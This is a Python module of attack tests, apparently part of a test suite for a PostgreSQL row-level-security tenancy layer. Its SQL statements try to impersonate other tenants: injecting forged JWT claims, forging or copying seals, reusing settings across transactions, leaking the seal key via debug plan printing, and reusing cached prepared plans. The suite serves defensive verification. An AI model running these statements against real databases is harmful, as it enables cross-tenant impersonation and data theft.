"""Attacks on the context: claims without a seal, copied seals, plans of other callers."""

from __future__ import annotations

import secrets
import time
from collections.abc import Callable, Iterator

from tenantry.postgres import ident, literal
from tenantry.postgres.seal import claims_text
from tenantry.prove.attacks.harness.attempt import AttackSession, Attempt
from tenantry.prove.attacks.harness.model import AttackVerdict, attack, broken, held, in_module, not_applicable
from tenantry.prove.attacks.harness.rights import unsealed

UNSEALED = "contexts are not sealed ([context] sealed = false): there is no token, and callers state their own claims"


def victims_claims(attempt: Attempt) -> str:
    return claims_text(attempt.world.claims(attempt.victim))


def _set(name: str, value: str, *, local: bool = True) -> str:
    return f"select set_config('{name}', {literal(value)}, {str(local).lower()})"


def became(attempt: Attempt, me: AttackSession, how: str) -> AttackVerdict | None:
    """Whether the session now acts as somebody else: return the broken verdict, or None."""
    found = attempt.foreign_rows(me)
    return broken(f"{how} the attacker sees {found}") if found else None


def _claims_set(attempt: Attempt, statements: Callable[[str], Iterator[str]]) -> AttackVerdict:
    with attempt.acting_as(attempt.attacker) as me:
        for statement in statements(victims_claims(attempt)):
            me.run(statement)
            verdict = became(attempt, me, "with made-up claims")
            if verdict is not None:
                return verdict
    with attempt.bare(attempt.world.client) as me:
        for statement in statements(victims_claims(attempt)):
            me.run(statement)
            verdict = became(attempt, me, "without a context, but with made-up claims,")
            if verdict is not None:
                return verdict
    return held("claims set by hand show no row")


@attack(
    "session",
    tries="Sets another caller's claims with SET and SET LOCAL.",
    gains="To act as anyone, with one injected statement.",
    source="https://supabase.com/docs/guides/database/postgres/row-level-security",
    rights=unsealed,
)
def claims_by_set(attempt: Attempt) -> AttackVerdict:
    def statements(claims: str) -> Iterator[str]:
        yield f"set local request.jwt.claims = {literal(claims)}"
        yield f"set session request.jwt.claims = {literal(claims)}"

    return _claims_set(attempt, statements)


@attack(
    "session",
    tries="Sets another caller's claims with set_config, within a SELECT.",
    gains="To act as anyone, from within a single injected query.",
    rights=unsealed,
)
def claims_by_set_config(attempt: Attempt) -> AttackVerdict:
    def statements(claims: str) -> Iterator[str]:
        yield _set("request.jwt.claims", claims)
        yield _set("request.jwt.claims", claims, local=False)

    return _claims_set(attempt, statements)


@attack(
    "session",
    tries="Sets single claims, as older gateways did: request.jwt.claim.sub, request.jwt.claim.role.",
    gains="To act as anyone, if these are still read.",
    rights=unsealed,
)
def single_claims_by_set(attempt: Attempt) -> AttackVerdict:
    def statements(_claims: str) -> Iterator[str]:
        for name, value in (
            ("sub", attempt.victim.uid),
            ("role", attempt.world.client),
            ("email", attempt.victim.email),
        ):
            yield _set(f"request.jwt.claim.{name}", value)

    return _claims_set(attempt, statements)


@attack(
    "session",
    tries="Changes the claims within one query, before a subquery reads the tables.",
    gains="A single SELECT that begins as one caller and reads as another.",
    rights=unsealed,
)
def claims_within_a_query(attempt: Attempt) -> AttackVerdict:
    claims = literal(victims_claims(attempt))
    with attempt.acting_as(attempt.attacker) as me:
        for target in attempt.targets():
            if not target.readable:
                continue
            turned = f"(select set_config('request.jwt.claims', {claims}, true))"
            keys = " or ".join(f"({row.where})" for row in target.hidden)
            for statement in (
                f"with turned as materialized {turned} select count(*) from turned, {target.name} where {keys}",
                f"select count(*) from (select {turned} as x offset 0) as t"
                f" join lateral (select from {target.name} where ({keys}) and t.x is not null) as r on true",
            ):
                if me.run(statement, undo=True).number:
                    return broken(f"{target.table.name}: claims that were set within the query showed rows")
    return held("claims that were set within a query showed no row")


@attack(
    "session",
    tries="Forges a seal: random text, text of the right form, the hash of the claims, and the attacker's seal on others' claims.",
    gains="To act as anyone, if the seal is not checked.",
    rights=unsealed,
)
def seal_made_up(attempt: Attempt) -> AttackVerdict:
    if attempt.world.key is None:
        return _claims_set(attempt, lambda claims: iter([_set("request.jwt.claims", claims)]))
    kid, claims = attempt.world.key.kid, victims_claims(attempt)
    with attempt.acting_as(attempt.attacker) as me:
        own = str(me.run("select current_setting('tenantry.seal', true)").value or "")
        made_up = [
            own,
            f"{kid}.{secrets.token_hex(32)}",
            f"{kid}.{'0' * 64}",
            f"{kid}.",
            f"{kid}",
            ".",
            f"nobody.{secrets.token_hex(32)}",
            f"{kid}.{_digest(me, claims)}",
            attempt.world.key.token(claims, "0.0"),
        ]
        for seal in made_up:
            me.run(_set("request.jwt.claims", claims))
            me.run(_set("tenantry.seal", seal))
            verdict = became(attempt, me, "with a forged seal")
            if verdict is not None:
                return verdict
    return held(f"{len(made_up)} seals opened nothing")


@attack(
    "session",
    tries="Takes the role of signed-in users in a context whose claims name the anonymous role.",
    gains="Rows that policies grant to a role other than the context's.",
)
def role_besides_the_seal(attempt: Attempt) -> AttackVerdict:
    if attempt.world.key is None:
        return not_applicable(UNSEALED)
    visitor = {**attempt.world.claims(attempt.attacker), "role": attempt.manifest.database_roles.anon}
    with attempt.bare() as me:
        attempt.open(me, visitor)
        me.raw(f"set local role {ident(attempt.world.client)}")
        found = attempt.any_rows(me)
    return (
        broken(f"under another role than the sealed one the attacker sees {found}") if found else held("no row is seen")
    )


@attack(
    "session",
    tries="Keeps reading in an open transaction after the caller's token has expired (exp).",
    gains="Access after the session has ended, as long as a transaction stays open.",
)
def claims_expired_meanwhile(attempt: Attempt) -> AttackVerdict:
    if attempt.world.key is None:
        return not_applicable(UNSEALED)
    end = time.time() + 0.5
    with attempt.acting_as({**attempt.world.claims(attempt.attacker), "exp": end}) as me:
        before = attempt.any_rows(me)
        time.sleep(max(0.0, end - time.time()) + 0.05)
        after = attempt.any_rows(me)
    if not before:
        return not_applicable("the caller sees no row before")
    return broken(f"after the token has expired the caller sees {after}") if after else held("no row is seen any more")


_PRINTING = (
    "set session debug_print_plan = on; set session debug_print_rewritten = on; set session debug_print_parse = on;"
    " set session debug_pretty_print = off; set session client_min_messages = log; set session plan_cache_mode = force_custom_plan"
)


def _written(block: bytes) -> tuple[str, ...]:
    """Return the texts in which PostgreSQL may print a column of the key: as signed and unsigned bytes of a node tree, and as SQL."""
    signed = " ".join(str(byte - 256 if byte > 127 else byte) for byte in block)
    return signed, " ".join(str(byte) for byte in block), block.hex()


@attack(
    "session",
    tries="Makes the session print parse trees and plans, in the previous transaction and in its own, and searches them for the seal key.",
    gains="The key, and with it any identity. Notices show it to the application, the log to its readers.",
    source="https://www.postgresql.org/docs/current/runtime-config-logging.html#GUC-DEBUG-PRINT-PARSE",
)
def seal_key_in_a_plan(attempt: Attempt) -> AttackVerdict:
    key = attempt.world.key
    if key is None:
        return not_applicable(UNSEALED)
    session, printed = attempt.connect(), list[str]()
    session.connection.add_notice_handler(
        lambda said: printed.append(f"{said.message_primary} {said.message_detail or ''}")
    )
    session.raw(_PRINTING)
    with attempt.acting_as(attempt.attacker, session) as me:
        opening = len(printed)
        me.raw(_PRINTING)
        me.run("select tenantry.uid()")
        attempt.any_rows(me)
        me.raw("set local plan_cache_mode = auto")
        attempt.any_rows(me)
    session.raw("reset all")
    text = " ".join(" ".join(printed).split())
    found = [name for name, block in key.blocks().items() if any(form in text for form in _written(block))]
    if found:
        return broken(f"{', '.join(found)} of the seal key appear in a printed plan")
    return held(f"no part of the key in {len(printed)} messages, {opening} of them while the context was opened")


def _digest(me: AttackSession, claims: str) -> str:
    return str(me.run("select encode(sha256(convert_to(%s, 'UTF8')), 'hex')", [claims]).value)


_SEEN = ("request.jwt.claims", "tenantry.seal")


def _captured(session: AttackSession) -> list[str]:
    """Return statements that restore, elsewhere, what SQL can read of the session's context."""
    values = [str(session.run(f"select current_setting('{name}', true)").value or "") for name in _SEEN]
    return [_set(name, value) for name, value in zip(_SEEN, values, strict=True)]


@attack(
    "session",
    tries="Copies the settings of the previous user within that user's transaction, and sets them again in the next one.",
    gains="To act as that user at any time.",
    rights=unsealed,
)
def seal_in_the_next_transaction(attempt: Attempt) -> AttackVerdict:
    session = attempt.connect()
    with attempt.acting_as(attempt.victim, session) as me:
        captured = _captured(me)
    for role in (False, True):
        with (
            attempt.acting_as(attempt.attacker, session) if role else attempt.bare(attempt.world.client, session) as me
        ):
            for statement in captured:
                me.run(statement)
            verdict = became(attempt, me, "with settings of the previous transaction")
            if verdict is not None:
                return verdict
    return held("the copied settings open nothing in the next transaction")


@attack(
    "session",
    tries="Copies the settings of a user and sets them in another session while the user's transaction is still open.",
    gains="To act as that user at the same time.",
    rights=unsealed,
)
def seal_in_another_session(attempt: Attempt) -> AttackVerdict:
    with attempt.acting_as(attempt.victim) as other:
        captured = _captured(other)
        with attempt.acting_as(attempt.attacker) as me:
            for statement in captured:
                me.run(statement)
            verdict = became(attempt, me, "with settings of another session")
    return verdict or held("the copied settings open nothing in another session")


@attack(
    "session",
    tries="Ends the transaction with COMMIT AND CHAIN, or begins a new one in the same message, and sets the old settings again.",
    gains="A context that outlives its transaction.",
    source="https://www.postgresql.org/docs/current/sql-commit.html",
    rights=unsealed,
)
def seal_in_a_chained_transaction(attempt: Attempt) -> AttackVerdict:
    for ending in ("commit and chain", "rollback and chain", "commit; begin"):
        session = attempt.connect()
        with attempt.acting_as(attempt.victim, session) as me:
            captured = _captured(me)
            client = f"set local role {ident(attempt.world.client)}"
            me.raw("; ".join([ending, *captured, client]))
            found = attempt.foreign_rows(me)
        if found:
            return broken(f"after {ending} the context of the previous transaction still shows {found}")
    return held("the copied settings open nothing in the following transaction")


def _plans(attempt: Attempt) -> Iterator[tuple[str, str]]:
    """Yield tables with prepared statements that count the visible rows of the other tenant."""
    for number, target in enumerate(target for target in attempt.targets() if target.readable):
        keys = " or ".join(f"({row.where})" for row in target.hidden)
        yield target.table.name, f"prepare plan_{number}_0 as select count(*) from {target.name} where {keys}"
        yield (
            target.table.name,
            f"prepare plan_{number}_1 as with seen as (select {target.columns} from {target.name} where {keys})"
            " select count(*) from seen",
        )
        yield (
            target.table.name,
            f"prepare plan_{number}_2 as select (select count(*) from {target.name} where {keys})"
            f" + (case when exists (select from {target.name} where {keys}) then 1 else 0 end)",
        )
        if number >= 7:
            break


@attack(
    "session",
    tries="Runs plans that another caller prepared on the connection and ran until they became generic.",
    gains="Plans that contain another caller's tenants.",
    source="CVE-2024-10976, CVE-2023-2455",
)
def plan_of_another_caller(attempt: Attempt) -> AttackVerdict:
    session = attempt.connect()
    plans = list(_plans(attempt))
    names = [statement.split()[1] for _, statement in plans]
    with attempt.acting_as(attempt.victim, session, keep=True) as me:
        me.raw("set local plan_cache_mode = force_generic_plan")
        for name, (_, statement) in zip(names, plans, strict=True):
            me.run(statement)
            for _ in range(2):
                me.run(f"execute {name}")
    with attempt.acting_as(attempt.attacker, session) as me:
        for mode in ("force_generic_plan", "auto"):
            me.raw(f"set local plan_cache_mode = {mode}")
            for name, (table, _) in zip(names, plans, strict=True):
                if me.run(f"execute {name}").number:
                    return broken(f"{table}: a plan that another caller prepared shows the attacker that caller's rows")
    return held(f"{len(plans)} plans of another caller show none of that caller's rows")


@attack(
    "session",
    tries="Runs the plans of a signed-in user as an anonymous client and as the login itself, on the same connection.",
    gains="Plans that contain the policies of another role, or none.",
    source="CVE-2024-10976, CVE-2023-2455",
)
def plan_of_another_role(attempt: Attempt) -> AttackVerdict:
    session = attempt.connect()
    roles = attempt.manifest.database_roles
    plans = list(_plans(attempt))
    names = [statement.split()[1] for _, statement in plans]
    with attempt.acting_as(attempt.victim, session, keep=True) as me:
        for name, (_, statement) in zip(names, plans, strict=True):
            me.run(statement)
            me.run(f"execute {name}")
    for role in (roles.anon, None):
        with attempt.bare(role, session) as me:
            for name, (table, _) in zip(names, plans, strict=True):
                if me.run(f"execute {name}").number:
                    return broken(f"{table}: the plan of a signed-in user serves {role or 'the login itself'}")
    return held(f"{len(plans)} plans serve no other role")


ATTACKS = in_module(globals())

__all__ = ["ATTACKS"]
